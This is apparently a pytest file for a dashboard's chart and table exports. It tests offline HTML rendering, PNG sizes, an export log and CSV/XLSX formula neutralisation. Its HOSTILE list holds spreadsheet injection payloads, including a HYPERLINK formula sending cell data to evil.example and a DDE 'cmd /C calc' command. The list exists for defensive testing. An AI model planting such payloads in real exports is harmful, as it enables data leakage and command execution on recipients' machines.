"""Chart and table exports: PNG (2×) / SVG / offline HTML for plotly and ECharts charts, CSV and
XLSX with formula-looking text neutralised, and the export log."""

from __future__ import annotations

import csv
import io
import json
import re

import plotly.graph_objects as go
import polars as pl
import pytest
from openpyxl import load_workbook
from playwright.sync_api import Browser

from dashboard.charts.maps import build_china_map
from dashboard.export import log
from dashboard.export.browser import with_browser
from dashboard.export.charts import plotly_to_html, plotly_to_png, plotly_to_svg
from dashboard.export.echarts_export import echarts_to_html, render_echarts
from dashboard.export.identity import current_user_label
from dashboard.export.tables import encode_table_csv, encode_table_xlsx, neutralise_text
from tests.cockpit_support import PROJECT_ROOT

ARTIFACTS = PROJECT_ROOT / "test-artifacts" / "pack"  # beside the committee pack of test_pack.py
PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _png_size(data: bytes) -> tuple[int, int]:
    assert data.startswith(PNG_MAGIC)
    return int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")


def _external_tags(html: str) -> list[str]:
    """Script or stylesheet tags that would load something from elsewhere."""
    return re.findall(r"<(?:script|link)[^>]+(?:src|href)\s*=", html)


def _draw_offline(html: str, selector: str) -> list[str]:
    """Open the page in chromium with every request refused; the requests it tried to make."""
    tried: list[str] = []

    def draw(browser: Browser) -> None:
        page = browser.new_page()
        page.route("**/*", lambda route: (tried.append(route.request.url), route.abort()))
        page.set_content(html, wait_until="load")
        page.wait_for_selector(selector, timeout=15_000)

    with_browser(draw)
    return tried


@pytest.fixture(scope="module")
def figure() -> go.Figure:
    fig = go.Figure(go.Bar(x=["来访", "来信", "电话", "网络"], y=[12, 5, 30, 18]))
    fig.update_layout(title="受理渠道结构（测试）", width=800, height=400)
    return fig


@pytest.mark.slow  # renders in headless chromium
def test_plotly_png_is_twice_the_size_and_watermarked_by_default(figure: go.Figure) -> None:
    plain = plotly_to_png(figure, watermark=False)
    marked = plotly_to_png(figure)
    assert _png_size(plain) == (1600, 800)
    assert plain != marked  # the watermark changes the pixels
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    (ARTIFACTS / "chart.png").write_bytes(marked)


@pytest.mark.slow  # renders in headless chromium
def test_plotly_svg_and_offline_html(figure: go.Figure) -> None:
    svg = plotly_to_svg(figure).decode("utf-8")
    assert svg.lstrip().startswith("<svg") and "受理渠道结构" in svg
    html = plotly_to_html(figure, "渠道").decode("utf-8")
    assert "Plotly.newPlot" in html
    assert "受理渠道结构" in html or json.dumps("受理渠道结构")[1:-1] in html  # plotly may \\u-escape text
    assert not _external_tags(html)
    assert _draw_offline(html, ".js-plotly-plot .main-svg") == []  # plotly.js is inlined: draws offline


@pytest.mark.slow  # renders in headless chromium
def test_echarts_map_exports() -> None:
    chart = build_china_map(
        [("广东省", 120.0), ("北京市", 80.0)], value_label="投诉量", unit="count", lower_is_better=True
    )
    html = echarts_to_html(chart, "地图").decode("utf-8")
    assert "echarts.registerMap" in html and not _external_tags(html)
    assert _draw_offline(html, "#chart canvas") == []
    png = render_echarts(chart, "png")
    width, height = _png_size(png)
    assert (width, height) == (2200, 1240)
    (ARTIFACTS / "map.png").write_bytes(png)
    svg = render_echarts(chart, "svg").decode("utf-8")
    assert svg.startswith("<svg") and "广东" in svg


def test_neutralise_text_only_touches_formula_starts() -> None:
    assert [neutralise_text(v)[0] for v in HOSTILE] == ["'"] * len(HOSTILE)
    assert neutralise_text("信用卡 = 分期") == "信用卡 = 分期"
    assert neutralise_text(None) is None and neutralise_text("") == ""


def test_hostile_text_is_inert_in_csv_and_xlsx() -> None:
    frame = pl.DataFrame({"问题描述": [*HOSTILE, "正常文本"], "件数": list(range(-3, len(HOSTILE) - 2))})
    frame = frame.with_columns(渠道=pl.Series([*HOSTILE[:2], *["来访"] * (len(HOSTILE) - 1)], dtype=pl.Categorical))
    raw = encode_table_csv(frame)
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    texts = [row[0] for row in rows[1:]]
    assert texts == [f"'{v}" for v in HOSTILE] + ["正常文本"]
    assert [int(row[1]) for row in rows[1:]] == frame["件数"].to_list()  # numbers stay numbers
    assert [row[2] for row in rows[1:3]] == [f"'{v}" for v in HOSTILE[:2]]  # categorical text too

    book = load_workbook(io.BytesIO(encode_table_xlsx(frame)))
    sheet = book.active
    cells = [sheet.cell(row=r, column=1) for r in range(2, len(HOSTILE) + 3)]
    assert all(cell.data_type == "s" for cell in cells)  # text, never a formula ("f")
    assert [cell.value for cell in cells] == texts
    assert [sheet.cell(row=r, column=2).value for r in range(2, len(HOSTILE) + 3)] == frame["件数"].to_list()


def test_export_log_appends_who_what_when(tmp_db) -> None:  # noqa: ANN001
    log.log_export("图表：渠道结构", "png", page="驾驶舱总览")
    log.log_export("表格：区域排名", "xlsx", user="张三")
    entries = [json.loads(line) for line in log.export_log_path().read_text(encoding="utf-8").splitlines()]
    assert [(e["what"], e["format"]) for e in entries] == [("图表：渠道结构", "png"), ("表格：区域排名", "xlsx")]
    assert entries[0]["user"] == current_user_label() and entries[1]["user"] == "张三"
    assert all(e["time"] for e in entries) and entries[0]["page"] == "驾驶舱总览"
    assert log.read_export_log() == entries
